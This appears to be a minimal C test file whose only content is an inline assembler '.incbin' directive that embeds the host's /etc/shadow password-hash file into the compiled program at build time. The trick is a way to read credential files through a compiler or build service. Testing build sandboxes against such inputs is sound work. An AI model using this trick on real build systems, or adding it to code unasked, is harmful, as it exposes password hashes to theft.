// SPDX-License-Identifier: GPL-3.0-or-later
// Has the assembler read the host's passwords.
__asm__(".incbin \"/etc/shadow\"");
int main(void)
{
    return 0;
}
